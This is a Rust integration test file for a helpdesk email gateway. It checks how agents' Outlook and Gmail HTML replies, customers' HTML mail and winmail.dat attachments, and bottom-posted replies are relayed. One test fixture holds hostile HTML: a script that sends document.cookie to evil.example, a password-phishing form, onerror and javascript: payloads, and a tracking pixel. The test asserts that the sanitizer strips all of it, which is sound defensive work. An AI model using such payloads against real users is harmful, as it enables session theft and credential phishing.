//! Issue 20 on real Dovecot and Postfix: agents' HTML answers (Outlook, Gmail, hostile) reach
//! the customer as HTML without the quote, customers' HTML and winmail.dat reach the agents,
//! bottom-posted answers are found or the agent is told.

use std::time::Duration;

use base64::Engine as _;
use mail_parser::{MessageParser, MimeHeaders};

use crate::agents::{customer_writes, with_agents};
use crate::daemon::{Daemon, Setup, header, parsed};
use crate::harness::{Lab, message};

const WAIT: Duration = Duration::from_secs(30);

/// The bytes of a 1×1 PNG: what a pasted screenshot is, for the mail's purposes.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82";

/// The lab, the daemon with two agents, and a ticket: agent1's notification and its signed
/// reply address. `None` without DESKGATE_IT.
async fn desk() -> Option<(Lab, Setup, Daemon, Vec<u8>, String)> {
    let lab = Lab::start()?;
    let setup = with_agents(&lab);
    let daemon = setup.start();
    let notification = customer_writes(
        &lab,
        ("Printer on fire", "m1@customer.test", "It smokes.\n"),
        1,
    )
    .await;
    let reply_to = parsed(&notification).reply_to.expect("Reply-To").address;
    // The answer's Date (whole seconds) comes after the ticket's creation.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    Some((lab, setup, daemon, notification, reply_to))
}

/// One part of a MIME body: headers and already encoded content.
fn part(headers: &str, content: &str) -> String {
    format!("{headers}\r\n\r\n{content}\r\n")
}

fn base64_lines(data: &[u8]) -> String {
    let encoded = base64::engine::general_purpose::STANDARD.encode(data);
    encoded
        .as_bytes()
        .chunks(76)
        .map(|line| String::from_utf8_lossy(line).into_owned())
        .collect::<Vec<_>>()
        .join("\r\n")
}

fn multipart(kind: &str, boundary: &str, parts: &[String]) -> String {
    let mut out = format!("Content-Type: multipart/{kind}; boundary=\"{boundary}\"\r\n\r\n");
    for p in parts {
        out.push_str(&format!("--{boundary}\r\n{p}"));
    }
    out.push_str(&format!("--{boundary}--\r\n"));
    out
}

/// `name` with Content-ID `cid`, base64.
fn image(cid: &str, name: &str) -> String {
    part(
        &format!(
            "Content-Type: image/png; name=\"{name}\"\r\nContent-Disposition: inline; filename=\"{name}\"\r\nContent-ID: <{cid}>\r\nContent-Transfer-Encoding: base64"
        ),
        &base64_lines(PNG),
    )
}

/// A mail from `from` to `to` whose body is the MIME entity `entity` (its own Content-Type
/// line first), with `extra` headers.
fn mime_mail(
    from: &str,
    to: &str,
    subject: &str,
    id: &str,
    entity: &str,
    extra: &[(&str, &str)],
) -> Vec<u8> {
    let (content_type, body) = entity.split_once("\r\n\r\n").expect("entity head");
    let content_type = content_type.trim_start_matches("Content-Type: ");
    let mut headers = vec![("Content-Type", content_type)];
    headers.extend_from_slice(extra);
    let head = message(from, to, subject, id, "", &headers);
    let text = String::from_utf8(head).expect("ASCII head");
    format!("{}\r\n\r\n{body}", text.trim_end()).into_bytes()
}

/// An agent's HTML answer to `notification` as their client sends it: the text part with
/// the quote as the client writes it, the HTML part with the client's quote markup, and the
/// images the HTML shows.
fn html_answer(
    lab: &Lab,
    notification: &[u8],
    text: &str,
    html: &str,
    images: &[String],
) -> Vec<u8> {
    let n = parsed(notification);
    let nid = n.message_id.clone().expect("notification Message-ID");
    let reply_to = n.reply_to.clone().expect("signed Reply-To").address;
    let html_part = part(
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64",
        &base64_lines(html.as_bytes()),
    );
    let mut related = vec![html_part];
    related.extend_from_slice(images);
    let alternative = multipart(
        "alternative",
        "alt-1",
        &[
            part(
                "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64",
                &base64_lines(text.as_bytes()),
            ),
            multipart("related", "rel-1", &related),
        ],
    );
    mime_mail(
        &format!("Alice Agent <{}>", lab.address("agent1")),
        &format!("Example Support <{reply_to}>"),
        &format!("RE: {}", n.subject),
        &format!("{}@agent.test", uuid::Uuid::new_v4().simple()),
        &alternative,
        &[("In-Reply-To", &format!("<{nid}>"))],
    )
}

/// The notification as the agent's client quotes it in HTML (escaped text, with our marker).
fn quoted_html(notification: &[u8]) -> String {
    parsed(notification)
        .text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('\n', "<br>\n")
}

/// The customer's copy of the agent's answer, once it arrives as mail number `n`.
async fn relayed(lab: &Lab, n: usize) -> Vec<u8> {
    lab.wait_for("customer1", "INBOX", n, WAIT)
        .await
        .remove(n - 1)
}

/// What the customer can see in `raw`: the decoded HTML and text, and every part's Content-ID.
fn seen(raw: &[u8]) -> (String, String, Vec<String>) {
    let message = MessageParser::default().parse(raw).expect("parsable mail");
    let html = message
        .body_html(0)
        .map(|h| h.into_owned())
        .unwrap_or_default();
    let text = message
        .body_text(0)
        .map(|t| t.replace("\r\n", "\n"))
        .unwrap_or_default();
    let cids = message
        .parts
        .iter()
        .filter_map(|p| p.content_id().map(String::from))
        .collect();
    (html, text, cids)
}

fn assert_nothing_of_ours(raw: &[u8], html: &str, text: &str) {
    let whole = format!("{}\n{html}\n{text}", String::from_utf8_lossy(raw));
    for secret in [
        "support+",
        "agent1@",
        "reply above this line",
        "It smokes",
        "wrote:",
        "From:</b>",
        "Sent:",
        "divRplyFwdMsg",
        "gmail_quote",
    ] {
        assert!(
            !whole.contains(secret),
            "the customer sees {secret:?}:\n{whole}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn outlook_and_gmail_html_answers_reach_the_customer_as_html() {
    let Some((lab, _setup, daemon, notification, reply_to)) = desk().await else {
        return;
    };

    // Outlook for Windows: Word HTML, a pasted screenshot, the border-top header block.
    let outlook = format!(
        r##"<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style><!-- p.MsoNormal {{margin:0cm}} --></style></head>
<body lang="EN-GB" link="#0563C1"><div class="WordSection1">
<p class="MsoNormal">Hello Mona,<o:p></o:p></p>
<p class="MsoNormal"><b>Please switch the printer off at the wall.</b><o:p></o:p></p>
<ol style="margin-top:0cm" start="1" type="1"><li class="MsoListParagraph" style="margin-left:0cm;mso-list:l0 level1 lfo1">Unplug the cable<o:p></o:p></li>
<li class="MsoListParagraph" style="margin-left:0cm;mso-list:l0 level1 lfo1">Wait ten minutes<o:p></o:p></li></ol>
<p class="MsoNormal"><img width="320" height="200" id="Picture_x0020_1" src="cid:image001.png@01DB1234.56789AB0" alt="Screenshot"><o:p></o:p></p>
<p class="MsoNormal">Alice<o:p></o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>From:</b> Example Support &lt;{reply_to}&gt;<br><b>Sent:</b> Monday, November 23, 2026 10:00 AM</p></div>
<p class="MsoNormal">{}</p><p><img src="cid:image002.png@01DB1234.56789AB0"></p></div></body></html>"##,
        quoted_html(&notification)
    );
    let text = format!(
        "Hello Mona,\n\nPlease switch the printer off at the wall.\n\n  1.  Unplug the cable\n  2.  Wait ten minutes\n\n[cid:image001.png@01DB1234.56789AB0]\n\nAlice\n\nFrom: Example Support <{reply_to}>\nSent: Monday, November 23, 2026 10:00 AM\n\n{}",
        parsed(&notification).text
    );
    let answer = html_answer(
        &lab,
        &notification,
        &text,
        &outlook,
        &[
            image("image001.png@01DB1234.56789AB0", "image001.png"),
            image("image002.png@01DB1234.56789AB0", "image002.png"),
        ],
    );
    lab.submit("agent1", &[&reply_to], &answer).await;
    let raw = relayed(&lab, 2).await;
    let (html, text, cids) = seen(&raw);
    assert!(
        html.contains("<b>Please switch the printer off at the wall.</b>"),
        "{html}"
    );
    assert!(
        html.contains("<ol") && html.contains("Wait ten minutes</li>"),
        "{html}"
    );
    assert!(
        html.contains("src=\"cid:image001.png@01DB1234.56789AB0\""),
        "{html}"
    );
    assert_eq!(
        cids,
        ["image001.png@01DB1234.56789AB0"],
        "the quote's image stays behind"
    );
    assert!(
        header(&raw, "Content-Type").is_some_and(|ct| ct.starts_with("multipart/alternative")),
        "{:?}",
        header(&raw, "Content-Type")
    );
    assert!(
        text.contains("*Please switch the printer off at the wall.*"),
        "{text}"
    );
    assert!(
        text.contains("1. Unplug the cable\n2. Wait ten minutes"),
        "{text}"
    );
    assert!(text.contains("[image: Screenshot]"), "{text}");
    assert_nothing_of_ours(&raw, &html, &text);

    // Gmail: div lines, an unordered list, gmail_quote.
    let gmail = format!(
        r#"<div dir="ltr"><div>Mona,</div><div><b>It is safe now.</b></div><ul><li>Plug it in</li><li>Print a test page</li></ul><div><img src="cid:ii_m1abc" alt="image.png" width="300"><br></div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, 23 Nov 2026 at 10:00, Example Support &lt;<a href="mailto:{reply_to}">{reply_to}</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">{}</blockquote></div>"#,
        quoted_html(&notification)
    );
    let quoted: String = parsed(&notification)
        .text
        .lines()
        .map(|l| format!("> {l}\n"))
        .collect();
    let text = format!(
        "Mona,\n*It is safe now.*\n\n   - Plug it in\n   - Print a test page\n\n[image: image.png]\n\nOn Mon, 23 Nov 2026 at 10:00, Example Support <{reply_to}> wrote:\n\n{quoted}"
    );
    let answer = html_answer(
        &lab,
        &notification,
        &text,
        &gmail,
        &[image("ii_m1abc", "image.png")],
    );
    lab.submit("agent1", &[&reply_to], &answer).await;
    let raw = relayed(&lab, 3).await;
    let (html, text, cids) = seen(&raw);
    assert!(html.contains("<b>It is safe now.</b>"), "{html}");
    assert!(html.contains("<ul><li>Plug it in</li>"), "{html}");
    assert!(html.contains("src=\"cid:ii_m1abc\""), "{html}");
    assert_eq!(cids, ["ii_m1abc"]);
    assert!(text.contains("- Plug it in\n- Print a test page"), "{text}");
    assert_nothing_of_ours(&raw, &html, &text);
    let (status, _) = daemon.stop();
    assert!(status.success());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_html_answer_reaches_the_customer_harmless() {
    let Some((lab, _setup, daemon, notification, reply_to)) = desk().await else {
        return;
    };
    let hostile = format!(
        r#"<div>Your refund is approved.<script>fetch('https://evil.example/?c='+document.cookie)</script></div><img src="cid:shot@x" onerror="alert(1)"><img src="http://tracker.example/pixel.gif?u=mona"><a href="javascript:alert(2)">details</a><form action="https://evil.example/collect" method="post">Password: <input name="password" type="password"><button>Confirm</button></form><blockquote type="cite">{}</blockquote>"#,
        quoted_html(&notification)
    );
    let answer = html_answer(
        &lab,
        &notification,
        "Your refund is approved.\n",
        &hostile,
        &[image("shot@x", "shot.png")],
    );
    lab.submit("agent1", &[&reply_to], &answer).await;
    let raw = relayed(&lab, 2).await;
    let (html, text, _) = seen(&raw);
    assert!(html.contains("Your refund is approved."), "{html}");
    let lower = format!("{html}\n{text}").to_ascii_lowercase();
    for gone in [
        "<script",
        "evil.example",
        "document.cookie",
        "onerror",
        "alert(",
        "tracker.example",
        "javascript:",
        "<form",
        "<input",
        "password",
        "confirm",
    ] {
        assert!(
            !lower.contains(gone),
            "the customer gets {gone:?}:\n{html}\n{text}"
        );
    }
    assert_nothing_of_ours(&raw, &html, &text);
    let (status, _) = daemon.stop();
    assert!(status.success());
}

/// The leak check reads what is relayed: a note pasted into the HTML only (the text part is
/// harmless) stops the answer.
#[tokio::test(flavor = "multi_thread")]
async fn an_internal_note_in_the_html_part_only_is_not_relayed() {
    let Some((lab, _setup, daemon, notification, reply_to)) = desk().await else {
        return;
    };
    const NOTE: &str = "This customer still owes us 5000 EUR from the old contract.";
    crate::agents::answer(&lab, "agent1", &notification, &format!("#note\n{NOTE}")).await;
    lab.wait_for("agent2", "INBOX", 2, WAIT).await;
    let html = format!(
        r#"<div>We are on it.</div><div style="color:#fff">{NOTE}</div><blockquote type="cite">{}</blockquote>"#,
        quoted_html(&notification)
    );
    let answer = html_answer(&lab, &notification, "We are on it.\n", &html, &[]);
    lab.submit("agent1", &[&reply_to], &answer).await;
    let notice = lab.wait_for("agent1", "INBOX", 2, WAIT).await.remove(1);
    let notice = parsed(&notice).text;
    assert!(notice.contains("was NOT sent to the customer"), "{notice}");
    let (status, _) = daemon.stop();
    assert!(status.success());
    assert_eq!(
        lab.fetch_all("customer1", "INBOX").await.len(),
        1,
        "only the acknowledgement"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_customers_html_and_winmail_dat_reach_the_agents_as_sent() {
    let Some(lab) = Lab::start() else { return };
    let setup = with_agents(&lab);
    let daemon = setup.start();
    let (customer, support) = (lab.address("customer1"), lab.address("support"));
    let winmail = deskgate::parse::tnef::build::winmail(&[
        (
            "QUARTE~1.PDF",
            "Quarterly report.pdf",
            b"%PDF-1.4 quarterly",
        ),
        ("NOTES.TXT", "notes.txt", b"paper jam at tray 2"),
    ]);
    let html = r#"<div dir="rtl">الطابعة <b>لا تعمل</b></div><img src="cid:photo1@customer" alt="photo"><img src="https://tracker.example/open.gif"><script>steal()</script>"#;
    let mixed = multipart(
        "mixed",
        "mix-1",
        &[
            multipart(
                "alternative",
                "alt-1",
                &[
                    part(
                        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64",
                        &base64_lines("الطابعة لا تعمل\n".as_bytes()),
                    ),
                    multipart(
                        "related",
                        "rel-1",
                        &[
                            part(
                                "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64",
                                &base64_lines(html.as_bytes()),
                            ),
                            image("photo1@customer", "photo.png"),
                        ],
                    ),
                ],
            ),
            part(
                "Content-Type: application/ms-tnef; name=\"winmail.dat\"\r\nContent-Disposition: attachment; filename=\"winmail.dat\"\r\nContent-Transfer-Encoding: base64",
                &base64_lines(&winmail),
            ),
        ],
    );
    let mail = mime_mail(
        &customer,
        &support,
        "Printer",
        "w1@customer.test",
        &mixed,
        &[],
    );
    lab.send(&customer, &[&support], &mail).await;
    let notification = lab.wait_for("agent1", "INBOX", 1, WAIT).await.remove(0);
    let message = MessageParser::default()
        .parse(&notification)
        .expect("notification");
    let names: Vec<String> = message
        .attachments()
        .filter_map(|a| a.attachment_name().map(String::from))
        .collect();
    assert!(
        names.contains(&"Quarterly report.pdf".to_string()),
        "{names:?}"
    );
    assert!(names.contains(&"notes.txt".to_string()), "{names:?}");
    assert!(
        !names.iter().any(|n| n.eq_ignore_ascii_case("winmail.dat")),
        "{names:?}"
    );
    let pdf = message
        .attachments()
        .find(|a| a.attachment_name() == Some("Quarterly report.pdf"))
        .expect("the PDF");
    assert_eq!(pdf.contents(), b"%PDF-1.4 quarterly");
    let (html, _, cids) = seen(&notification);
    assert!(html.contains("الطابعة <b>لا تعمل</b>"), "{html}");
    assert!(html.contains("dir=\"rtl\""), "{html}");
    assert!(html.contains("src=\"cid:photo1@customer\""), "{html}");
    assert_eq!(cids, ["photo1@customer"], "the photo beside the HTML");
    assert!(
        !html.contains("tracker.example") && !html.contains("steal()"),
        "{html}"
    );
    let number = setup.json(&["tickets"])[0]["id"]
        .as_i64()
        .expect("ticket id");
    let shown = setup.cli(&["ticket", &number.to_string()]);
    let shown = String::from_utf8_lossy(&shown.stdout);
    assert!(shown.contains("Quarterly report.pdf, notes.txt"), "{shown}");
    let (status, _) = daemon.stop();
    assert!(status.success());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bottom_posted_answer_is_relayed_and_an_empty_one_told() {
    let Some((lab, _setup, daemon, notification, reply_to)) = desk().await else {
        return;
    };
    let quoted: String = parsed(&notification)
        .text
        .lines()
        .map(|l| format!("> {l}\n"))
        .collect();
    let below = |words: &str| {
        message(
            &format!("Alice Agent <{}>", lab.address("agent1")),
            &reply_to,
            "Re: Printer on fire",
            &format!("{}@agent.test", uuid::Uuid::new_v4().simple()),
            &format!("On 23/11/2026 10:00, Example Support wrote:\n{quoted}\n{words}-- \nAlice\n"),
            &[],
        )
    };
    lab.submit("agent1", &[&reply_to], &below("Please unplug it.\n"))
        .await;
    let raw = relayed(&lab, 2).await;
    let r = parsed(&raw);
    assert!(r.text.starts_with("Please unplug it."), "{}", r.text);
    assert_nothing_of_ours(&raw, "", &r.text);

    lab.submit("agent1", &[&reply_to], &below("")).await;
    let notice = lab.wait_for("agent1", "INBOX", 2, WAIT).await.remove(1);
    let notice = parsed(&notice).text;
    assert!(
        notice.contains("nothing was sent to the customer"),
        "{notice}"
    );
    let (status, _) = daemon.stop();
    assert!(status.success());
    assert_eq!(lab.fetch_all("customer1", "INBOX").await.len(), 2);
}
